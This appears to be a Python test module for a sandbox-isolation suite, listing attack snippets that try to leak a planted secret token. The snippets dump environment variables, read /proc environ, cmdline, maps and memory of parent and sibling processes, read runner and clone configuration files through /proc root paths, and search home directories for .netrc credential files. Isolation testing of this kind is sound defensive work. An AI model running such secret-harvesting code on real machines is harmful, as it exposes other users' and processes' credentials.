"""Attacks that look for the token, for the runner's files and for what is on the machine's disk.

The planted secret is in no script: it got through when it is in the output (surroundings.py).
"""
from hostile.attack import NOT_COVERED, Attack

READ_EVERYWHERE = """
for root in ("", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", "/proc/self/cwd/../.."):
    for path in wanted:
        show(root + path, lambda: open(root + path, "rb").read())
"""

ATTACKS = [
    Attack("token in the environment", """
print(sorted(os.environ.items()))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environ[index]:
    print(environ[index])
    index += 1
show("shell", lambda: subprocess.run(["/usr/bin/env"], capture_output=True).stdout)
"""),
    Attack("/proc of parents", """
for pid in {1, os.getppid()} | set(processes()):
    for what in ("environ", "cmdline", "auxv", "maps"):
        if pid != os.getpid():
            show(f"{what} of {pid}", lambda: open(f"/proc/{pid}/{what}", "rb").read())
    if pid != os.getpid():
        attempt(f"files of {pid}", lambda: os.listdir(f"/proc/{pid}/fd"))
        attempt(f"memory of {pid}", lambda: open(f"/proc/{pid}/mem", "rb").read(1))
        attempt(f"namespaces of {pid}", lambda: os.readlink(f"/proc/{pid}/ns/user"))
""", bubblewrap=NOT_COVERED, note="pid 1 of bubblewrap is an ordinary process of the same user"),
    Attack("/proc of siblings", """
sibling = places["sibling"]
for what in ("environ", "cmdline", "maps", "comm"):
    show(what, lambda: open(f"/proc/{sibling}/{what}", "rb").read())
for pid in processes():
    show(f"name of {pid}", lambda: open(f"/proc/{pid}/comm").read().replace("hostile-sibling", "THROUGH"))
"""),
    Attack("runner files", "wanted = places['runner_files']" + READ_EVERYWHERE),
    Attack("configuration of the clone", "wanted = places['clone_files']" + READ_EVERYWHERE),
    Attack("home", "wanted = places['home_files']" + READ_EVERYWHERE + """
for folder in ("/home", "/root", "/var", "/run", "/mnt", "/opt"):
    show(folder, lambda: [open(path, "rb").read(200) for path in glob.glob(folder + "/**/.netrc", recursive=True)])
"""),
]
